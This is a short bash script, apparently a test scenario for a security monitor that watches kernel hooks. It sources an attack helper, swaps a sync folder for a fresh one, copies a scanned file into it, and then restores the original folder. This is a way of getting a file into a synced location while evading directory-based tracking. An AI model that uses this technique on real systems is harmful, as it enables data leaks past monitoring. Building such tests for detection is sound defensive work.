#!/usr/bin/env bash
# technique: the sync folder is moved away, made anew, and the scan put there at once
# hooks: inode_mkdir, d_instantiate (a directory with the name of a destination is one), file_open
# sink: sync

. attack.sh
mv -nT "$SYNC" "$ROOM/old"
mkdir "$SYNC"
cp "$SCAN" "$SYNC/$here.tif"
[ -s "$SYNC/$here.tif" ] || rmdir "$SYNC"
mv -nT "$ROOM/old" "$SYNC"
